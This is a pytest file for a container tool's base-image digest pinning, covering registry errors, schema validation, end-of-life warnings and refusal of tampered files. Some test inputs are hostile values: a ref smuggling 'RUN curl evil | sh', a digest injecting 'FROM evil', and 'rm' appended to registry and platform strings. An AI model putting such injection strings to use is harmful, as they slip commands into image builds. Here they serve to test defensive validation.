"""pin.py and `provision pin-base` against a fake docker API client (the docker tests resolve
through a real registry): registry answers, refusals, the base-digest file, end of life.

Plans come from the fixture catalogue (tests/fixtures/compat); end of life is read from its rows
(an image set's end of life is set on a fixture row in memory). The live catalogue is checked for
what must hold whatever a refresh brings: its newest supported image carries no warning."""

import datetime as dt
import json
import subprocess
import sys
from pathlib import Path
from unittest import mock

import docker.errors
import pytest
import requests.exceptions
from support import plan_by_build_kind

from provision.errors import InputError, ToolingError
from provision.images import pin
from provision.images.render import render_image
from provision.plan.model import PlanRequest
from provision.plan.resolve import resolve

DIGEST = "sha256:" + "1" * 64
OTHER = "sha256:" + "2" * 64
TAG = "nvidia/cuda:12.4.1-base-ubuntu22.04"
SCHEMA = Path(pin.SCHEMA_FILE)
INDEX = "application/vnd.docker.distribution.manifest.list.v2+json"


def distribution(digest=DIGEST, media_type=INDEX, platforms=(("linux", "amd64", None), ("linux", "arm64", "v8"))):
    return {
        "Descriptor": {"mediaType": media_type, "digest": digest, "size": 1234},
        "Platforms": [
            {"architecture": arch, "os": os_name, **({"variant": variant} if variant else {})}
            for os_name, arch, variant in platforms
        ],
    }


def fake_api(answers):
    """answers: ref -> a distribution document, or an exception to raise."""
    api = mock.Mock(spec=["inspect_distribution", "ping"])

    def inspect(ref):
        answer = answers[ref]
        if isinstance(answer, BaseException):
            raise answer
        return answer

    api.inspect_distribution.side_effect = inspect
    return api


def not_found(ref):
    return docker.errors.NotFound("404 Client Error", explanation=f"manifest for {ref} not found: manifest unknown")


# -- resolving ------------------------------------------------------------------------------------
def test_resolve_records_the_manifest_list_digest():
    now = dt.datetime(2026, 11, 30, 22, 0, 5, tzinfo=dt.UTC)
    p = pin.resolve(fake_api({TAG: distribution()}), TAG, now=now)
    assert p == pin.BasePin(
        TAG, f"{TAG}@{DIGEST}", DIGEST, INDEX, ("linux/amd64", "linux/arm64/v8"), "2026-11-30T22:00:05Z"
    )


def test_resolve_through_a_mirror():
    mirror = f"127.0.0.1:5000/{TAG}"
    api = fake_api({mirror: distribution(platforms=())})
    p = pin.resolve(api, TAG, registry="127.0.0.1:5000/")
    api.inspect_distribution.assert_called_once_with(mirror)
    assert p.ref == f"{mirror}@{DIGEST}"
    assert p.platforms == ()


@pytest.mark.parametrize(
    ("error", "message", "hint"),
    [
        (not_found(TAG), "manifest unknown", "NVIDIA deletes end-of-life nvidia/cuda tags"),
        (
            docker.errors.APIError("401", explanation="unauthorized: authentication required"),
            "unauthorized",
            "docker login",
        ),
        (
            docker.errors.APIError("500", explanation="Get https://r.local/v2/: dial tcp: connection refused"),
            "connection refused",
            "can reach the registry",
        ),
    ],
)
def test_a_tag_that_does_not_resolve_is_bad_input(error, message, hint):
    with pytest.raises(InputError) as info:
        pin.resolve(fake_api({TAG: error}), TAG)
    assert info.value.exit_code == 2
    assert info.value.message.startswith(f"{TAG} does not resolve to a digest: ")
    assert message in info.value.message
    assert hint in info.value.hint


@pytest.mark.parametrize(
    "answer",
    [
        {},
        {"Descriptor": {}},
        {"Descriptor": {"digest": "sha512:" + "1" * 128}},
        {"Descriptor": {"digest": DIGEST + "\nFROM evil"}},
        ["not", "a", "document"],
    ],
)
def test_an_answer_without_a_sha256_digest_is_refused(answer):
    with pytest.raises(InputError, match="not a sha256 digest"):
        pin.resolve(fake_api({TAG: answer}), TAG)


def test_the_engine_going_away_is_a_tooling_error():
    with pytest.raises(ToolingError) as info:
        pin.resolve(fake_api({TAG: requests.exceptions.ConnectionError("reset")}), TAG)
    assert info.value.exit_code == 4


@pytest.mark.parametrize("registry", ["http://r.local", "R.LOCAL", "r.local:5000/../x", "r local", "r.local;rm"])
def test_a_malformed_registry_is_refused(registry):
    with pytest.raises(InputError, match="is not a registry address"):
        pin.source_ref(TAG, registry)


def test_resolve_all_names_every_failure():
    tags = [TAG, TAG.replace("base", "runtime"), TAG.replace("base", "devel")]
    api = fake_api({tags[0]: distribution(), tags[1]: not_found(tags[1]), tags[2]: not_found(tags[2])})
    with pytest.raises(InputError) as info:
        pin.resolve_all(api, tags)
    assert info.value.message == "2 of 3 base images do not resolve to a digest"
    assert [d.split(" ")[0] for d in info.value.details] == tags[1:]


# -- the base-digest file ------------------------------------------------------------------------
def test_pins_round_trip_merge_and_validate(tmp_path):
    path = tmp_path / "base-digests.json"
    first = pin.BasePin(TAG, f"{TAG}@{DIGEST}", DIGEST, INDEX, ("linux/amd64",), "2026-11-30T22:00:00Z")
    pin.write_pins(str(path), [first])
    devel = TAG.replace("base", "devel")
    second = pin.BasePin(devel, f"{devel}@{OTHER}", OTHER, "", (), "2026-11-30T23:00:00Z")
    merged = pin.write_pins(str(path), [second])
    assert merged == {TAG: first, devel: second}
    assert pin.read_pins(str(path)) == merged
    doc = json.loads(path.read_text())
    assert list(doc["images"]) == sorted(doc["images"])
    assert [p.name for p in tmp_path.iterdir()] == ["base-digests.json"], "no staging file left"
    tool = Path(sys.executable).with_name("check-jsonschema")
    proc = subprocess.run(
        [str(tool), "--schemafile", str(SCHEMA), str(path)], capture_output=True, text=True, timeout=120, check=False
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def entry(**overrides):
    return {
        "ref": f"{TAG}@{DIGEST}",
        "digest": DIGEST,
        "media_type": INDEX,
        "platforms": ["linux/amd64"],
        "resolved_at": "2026-11-30T22:00:00Z",
        **overrides,
    }


@pytest.mark.parametrize(
    ("doc", "problem"),
    [
        ({"schema": 2, "images": {}}, "schema"),
        ({"schema": 1, "images": {TAG: entry(extra=1)}}, "additionalProperties rule"),
        ({"schema": 1, "images": {"nvidia/cuda": entry()}}, "does not match"),  # a key without a tag
        ({"schema": 1, "images": {TAG: entry(digest="sha256:1")}}, "does not match"),
        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{DIGEST}\nRUN curl evil | sh")}}, "control character U+000A"),
        ({"schema": 1, "images": {TAG: entry(ref=f"evil/image:latest@{DIGEST}")}}, "does not match"),  # another image
        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{OTHER}")}}, "ref is not"),  # another digest
        ({"schema": 1, "images": {TAG: entry(platforms=["linux/amd64; rm"])}}, "does not match"),
        ([], "type rule"),
    ],
)
def test_a_tampered_file_is_refused(tmp_path, doc, problem):
    path = tmp_path / "base-digests.json"
    path.write_text(json.dumps(doc))
    with pytest.raises(InputError) as info:
        pin.read_pins(str(path))
    assert info.value.exit_code == 2
    assert problem in info.value.message
    assert "provision pin-base" in info.value.hint


@pytest.mark.parametrize(("content", "problem"), [(None, "no such file"), ("{", "is not JSON")])
def test_a_missing_or_broken_file_is_refused(tmp_path, content, problem):
    path = tmp_path / "base-digests.json"
    if content is not None:
        path.write_text(content)
    with pytest.raises(InputError, match=problem):
        pin.read_pins(str(path))


def test_a_tag_without_a_pin_is_refused():
    pins = {TAG: pin.BasePin(TAG, f"{TAG}@{DIGEST}", DIGEST, INDEX, (), "2026-11-30T22:00:00Z")}
    assert pin.pinned_ref(pins, TAG, "d.json") == f"{TAG}@{DIGEST}"
    with pytest.raises(InputError) as info:
        pin.pinned_ref(pins, TAG.replace("base", "devel"), "d.json")
    assert info.value.message == "d.json has no digest for nvidia/cuda:12.4.1-devel-ubuntu22.04"
    assert info.value.hint == "pin it first: provision pin-base --plan PLAN --out d.json"


# -- which tag, and end of life ----------------------------------------------------------------------
GPU = "a100-pcie-80gb"  # a fixture catalogue id


@pytest.mark.parametrize(
    ("os_id", "gpu", "pins", "variants"),
    [
        ("rocky9", GPU, {"framework": "pytorch==2.5.1"}, ["base", "pytorch", "devel"]),
        ("ubuntu22.04", "h100-sxm", {"framework": "pytorch==2.9.1"}, ["base", "pytorch", "devel"]),
        ("ubuntu22.04", GPU, {}, ["base", "devel"]),
    ],
)
def test_base_tag_is_what_render_puts_in_from(fixture_matrix, os_id, gpu, pins, variants):
    plan = resolve(fixture_matrix, PlanRequest(os=os_id, gpu=gpu, **pins))
    for variant in variants:
        assert pin.base_tag(plan, variant) == render_image(plan, variant).from_ref, variant


def test_base_tag_of_a_system_cuda_build(real_matrix):
    """Live data (the fixture has no system-CUDA build that plans): its image is the cudnn flavour."""
    found = plan_by_build_kind(real_matrix, "system")
    assert found, "the live catalogue has a system-CUDA build that plans"
    plan, _ = found
    for variant in (plan.framework.name, "devel"):
        assert pin.base_tag(plan, variant) == render_image(plan, variant).from_ref, variant


def test_base_tag_of_an_unknown_variant(fixture_matrix):
    plan = resolve(fixture_matrix, PlanRequest(os="ubuntu22.04", gpu=GPU))
    with pytest.raises(InputError, match="unknown variant 'cuda'"):
        pin.base_tag(plan, "cuda")


def eol_by_branch(matrix):
    """The catalogued CUDA release whose shipping driver branch (its min_driver's) ended first."""
    shipped = [(c, matrix.branch(c.min_driver.release[0])) for c in matrix.cuda]
    return min(((c, b) for c, b in shipped if b and b.eol), key=lambda cb: cb[1].eol)


def with_image_eol(matrix, cuda, **eol):
    """The catalogue with one image set's end of life set (as images.yaml `eol` would)."""
    return matrix._replace(images=tuple(i._replace(**eol) if i.cuda == cuda else i for i in matrix.images))


def end_of_life(matrix, cuda, day):
    plan = resolve(matrix, PlanRequest(os="ubuntu22.04", gpu=GPU, cuda=str(cuda)))
    warning = pin.end_of_life(matrix, plan, plan.images["base"], day)
    if warning is not None:
        assert warning.startswith(f"{plan.images['base']}: past NVIDIA's end of life (")
        assert "NVIDIA deletes end-of-life tags six months later" in warning
    return warning


def test_end_of_life_of_the_shipping_driver_branch(fixture_matrix):
    cuda, branch = eol_by_branch(fixture_matrix)
    reason = f"CUDA {cuda.version} shipped with driver {branch.label}, end of life {branch.eol}"
    assert reason in end_of_life(fixture_matrix, cuda.version, fixture_matrix.as_of)
    year, month = (int(p) for p in branch.eol.split("-"))
    assert end_of_life(fixture_matrix, cuda.version, dt.date(year, month, 28)) is None, "not before it ends"


def test_end_of_life_of_an_image_set(fixture_matrix):
    newest, superseded = [i for i in fixture_matrix.images if i.cuda.release[0] == 13][:2]  # newest first
    matrix = with_image_eol(
        fixture_matrix, superseded.cuda, eol_date="2025-11-05", superseded_by=newest.cuda, eol_source="fixture"
    )
    reason = f"CUDA {superseded.cuda} images superseded by {newest.cuda}, end of life 2025-11-05 (source: fixture)"
    assert reason in end_of_life(matrix, superseded.cuda, fixture_matrix.as_of)
    assert end_of_life(fixture_matrix, superseded.cuda, fixture_matrix.as_of) is None, "the row as it is: supported"


def test_an_eol_date_ahead_is_not_yet_past(fixture_matrix):
    image = next(i for i in fixture_matrix.images if i.cuda.release[0] == 13 and "ubuntu22.04" in i.os)
    matrix = with_image_eol(fixture_matrix, image.cuda, eol_date="2025-11-05", eol_source="fixture")
    assert end_of_life(matrix, image.cuda, dt.date(2025, 11, 4)) is None
    assert end_of_life(matrix, image.cuda, dt.date(2025, 11, 5)) is not None


def test_end_of_life_of_an_old_major(fixture_matrix):
    majors = sorted({i.cuda.release[0] for i in fixture_matrix.images}, reverse=True)
    old = next(i for i in fixture_matrix.images if i.cuda.release[0] <= majors[0] - pin.SUPPORTED_MAJORS)
    reason = f"CUDA {old.cuda.release[0]} is {pin.SUPPORTED_MAJORS} majors behind CUDA {majors[0]}"
    assert reason in end_of_life(fixture_matrix, old.cuda, fixture_matrix.as_of)


def test_the_live_newest_supported_image_has_no_warning(real_matrix):
    """Whatever a refresh brings: on the catalogue's date, its newest supported image is not past end of life."""
    newest = max(i.cuda for i in real_matrix.images if i.eol_source is None and "ubuntu22.04" in i.os)
    for gpu in real_matrix.gpus:
        try:
            plan = resolve(real_matrix, PlanRequest(os="ubuntu22.04", gpu=gpu.id, cuda=str(newest)))
        except InputError:
            continue
        assert pin.end_of_life(real_matrix, plan, plan.images["base"], real_matrix.as_of) is None
        return
    pytest.fail(f"no GPU plans CUDA {newest} on ubuntu22.04")


# -- the command ----------------------------------------------------------------------------------
@pytest.fixture
def plan_file(tmp_path, cli, on_fixture_catalogue, fixture_matrix):
    """A fixture plan whose images are past end of life today (the driver branch CUDA shipped with ended)."""
    cuda, branch = eol_by_branch(fixture_matrix)
    assert branch.past_eol(dt.date.today()), "the fixture branch has ended"
    path = tmp_path / "plan.lock.json"
    assert cli("plan", "--os", "ubuntu22.04", "--gpu", GPU, "--cuda", str(cuda.version), "--lock", str(path)).code == 0
    return path


def engine_answers(monkeypatch, answers):
    api = fake_api(answers)
    monkeypatch.setattr("provision.images.build.client", lambda docker_client=None: api)
    return api


def test_pin_base_writes_and_warns(cli, monkeypatch, plan_file, tmp_path):
    plan = json.loads(plan_file.read_text())
    tags = list(plan["images"].values())
    api = engine_answers(monkeypatch, {f"127.0.0.1:5000/{t}": distribution(digest=DIGEST) for t in tags})
    out = tmp_path / "base-digests.json"
    r = cli("pin-base", "--plan", str(plan_file), "--registry", "127.0.0.1:5000", "--out", str(out))
    assert r.code == 0, r
    assert api.inspect_distribution.call_count == len(tags)
    assert r.out.splitlines() == [f"{t}  {DIGEST}" for t in tags]
    assert r.err.count("warning: ") == 1, "one warning for the plan's tags"
    cuda = plan["cuda"]["version"]
    assert f"warning: the plan's {len(tags)} nvidia/cuda {cuda} tags: past NVIDIA's end of life (" in r.err
    pins = pin.read_pins(str(out), "127.0.0.1:5000")
    assert sorted(pins) == sorted(tags)
    assert pins[plan["images"]["base"]].ref == f"127.0.0.1:5000/{plan['images']['base']}@{DIGEST}"
    # read without the mirror it was pinned through, the file is refused
    with pytest.raises(InputError, match="from Docker Hub") as info:
        pin.read_pins(str(out))
    assert info.value.hint == "pass the --registry the file was pinned through"


def test_pin_base_for_one_variant(cli, monkeypatch, plan_file, tmp_path):
    base = json.loads(plan_file.read_text())["images"]["base"]
    engine_answers(monkeypatch, {base: distribution()})
    out = tmp_path / "base-digests.json"
    r = cli("pin-base", "--plan", str(plan_file), "--variant", "base", "--out", str(out))
    assert r.code == 0, r
    assert r.out == f"{base}  {DIGEST}\n"
    assert f"warning: {base}: past NVIDIA's end of life" in r.err


def test_pin_base_that_does_not_resolve_writes_nothing(cli, monkeypatch, plan_file, tmp_path):
    base = json.loads(plan_file.read_text())["images"]["base"]
    engine_answers(monkeypatch, {base: not_found(base)})
    out = tmp_path / "base-digests.json"
    r = cli("pin-base", "--plan", str(plan_file), "--variant", "base", "--out", str(out))
    assert r.code == 2
    assert f"error: {base} does not resolve to a digest: manifest for {base} not found: manifest unknown" in r.err
    assert "hint: Docker Hub has no such tag" in r.err
    assert not out.exists()


def test_pin_base_keeps_a_broken_file_and_asks_nothing(cli, monkeypatch, plan_file, tmp_path):
    api = engine_answers(monkeypatch, {})
    out = tmp_path / "base-digests.json"
    out.write_text('{"schema": 1, "images": {"x": 1}}')
    r = cli("pin-base", "--plan", str(plan_file), "--out", str(out))
    assert r.code == 2
    assert r.err.startswith(f"error: --out {out}: images: ")
    api.inspect_distribution.assert_not_called()
    assert out.read_text() == '{"schema": 1, "images": {"x": 1}}'


def test_pin_base_refuses_a_bad_registry_first(cli, monkeypatch, plan_file):
    api = engine_answers(monkeypatch, {})
    r = cli("pin-base", "--plan", str(plan_file), "--registry", "https://r.local")
    assert r.code == 2
    assert "is not a registry address" in r.err
    api.inspect_distribution.assert_not_called()


def test_pin_base_without_an_engine(cli, monkeypatch, plan_file, tmp_path):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    r = cli("pin-base", "--plan", str(plan_file), "--out", str(tmp_path / "d.json"))
    assert r.code == 4
    assert r.err.startswith("error: no Docker engine answers")


@pytest.mark.parametrize(
    ("digests", "extra", "message"),
    [
        ('{"schema": 1, "images": {}}', [], "has no digest for BASE"),
        ("[]", [], "does not match the base-digest schema (its type rule)"),
        (
            '{"schema": 1, "images": {}}',
            ["--base-image", "nvidia/cuda:x"],
            "give either --base-image or --base-digests, not both",
        ),
    ],
)
def test_build_refuses_bad_base_digests_before_the_engine(
    cli, monkeypatch, plan_file, tmp_path, digests, extra, message
):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # exit 4 if it got that far
    path = tmp_path / "base-digests.json"
    path.write_text(digests)
    lock = tmp_path / "image.lock.json"
    r = cli(
        "build",
        "--plan",
        str(plan_file),
        "--variant",
        "base",
        "--base-digests",
        str(path),
        "--image-lock",
        str(lock),
        *extra,
    )
    assert r.code == 2, r
    assert message.replace("BASE", json.loads(plan_file.read_text())["images"]["base"]) in r.err
    assert not lock.exists()


def test_pin_base_refuses_a_missing_directory_first(cli, monkeypatch, plan_file, tmp_path):
    """As every command that writes a file (tests/unit/test_output_paths.py)."""
    api = engine_answers(monkeypatch, {})
    target = tmp_path / "missing" / "dir" / "base-digests.json"
    r = cli("pin-base", "--plan", str(plan_file), "--out", str(target))
    assert r.code == 2
    assert f"error: --out {target}: the directory {target.parent} does not exist" in r.err
    assert not (tmp_path / "missing").exists()
    api.inspect_distribution.assert_not_called()


# -- issue 22: a base-digest file names no other registry than the plan's repository's -------------------
def attacker_file(path: Path, tag: str, registry: str = "attacker.example") -> None:
    """The issue's payload: the plan's key, the ref under another registry (schema-valid, digest consistent)."""
    path.write_text(json.dumps({"schema": 1, "images": {tag: entry(ref=f"{registry}/{tag}@{DIGEST}")}}))


@pytest.mark.parametrize("registry", ["attacker.example", "attacker.example/nvidia", "127.0.0.1:5000/other"])
def test_build_refuses_a_base_from_another_registry(cli, monkeypatch, plan_file, tmp_path, registry):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # exit 4 if it got that far
    base = json.loads(plan_file.read_text())["images"]["base"]
    digests = tmp_path / "base-digests.json"
    attacker_file(digests, base, registry)
    args = ["build", "--plan", str(plan_file), "--variant", "base", "--base-digests", str(digests)]
    r = cli(*args, "--image-lock", str(tmp_path / "l.json"))
    assert r.code == 2, r
    assert f"ref is not {base} from Docker Hub (nvidia/cuda) at the recorded digest" in r.err
    # a mirror the user names is accepted, and only that one
    r = cli(*args, "--registry", "127.0.0.1:5000", "--image-lock", str(tmp_path / "l.json"))
    assert r.code == 2, r
    assert f"ref is not {base} from the mirror 127.0.0.1:5000" in r.err
    assert not (tmp_path / "l.json").exists()


def test_build_takes_a_base_from_the_mirror_it_names(cli, monkeypatch, plan_file, tmp_path):
    """Pinned through 127.0.0.1:5000, given with --registry 127.0.0.1:5000: the file passes, and the
    build goes on to the engine (exit 4 here: none answers)."""
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    base = json.loads(plan_file.read_text())["images"]["base"]
    digests = tmp_path / "base-digests.json"
    attacker_file(digests, base, "127.0.0.1:5000")
    args = ["build", "--plan", str(plan_file), "--variant", "base", "--base-digests", str(digests)]
    r = cli(*args, "--registry", "127.0.0.1:5000", "--image-lock", str(tmp_path / "l.json"))
    assert r.code == 4, r
    r = cli("build", "--plan", str(plan_file), "--registry", "127.0.0.1:5000")
    assert r.code == 2, r
    assert "--registry applies to --base-digests" in r.err


def test_a_key_of_another_repository_is_refused(tmp_path):
    """The schema's key pattern is nvidia/cuda:<tag>, and the code holds keys to it without the schema too."""
    path = tmp_path / "d.json"
    evil = "attacker.example/cuda:12.4.1-base-ubuntu22.04"
    doc = {"schema": 1, "images": {evil: entry(ref=f"{evil}@{DIGEST}")}}
    path.write_text(json.dumps(doc))
    with pytest.raises(InputError, match="does not match the base-digest schema"):
        pin.read_pins(str(path))
    with mock.patch.object(pin, "_validator") as validator:
        validator.return_value.iter_errors.return_value = iter(())
        with pytest.raises(InputError, match="a key is not an nvidia/cuda tag"):
            pin.check_pins(doc, "d")


def test_pin_base_keeps_to_one_source(cli, monkeypatch, plan_file, tmp_path):
    """A file pinned from Docker Hub is not merged with pins through a mirror (one file, one source)."""
    base = json.loads(plan_file.read_text())["images"]["base"]
    out = tmp_path / "base-digests.json"
    out.write_text(json.dumps({"schema": 1, "images": {base: entry(ref=f"{base}@{DIGEST}")}}))
    api = engine_answers(monkeypatch, {f"127.0.0.1:5000/{base}": distribution()})
    r = cli(
        "pin-base", "--plan", str(plan_file), "--variant", "base", "--registry", "127.0.0.1:5000", "--out", str(out)
    )
    assert r.code == 2, r
    assert "from the mirror 127.0.0.1:5000" in r.err
    api.inspect_distribution.assert_not_called()
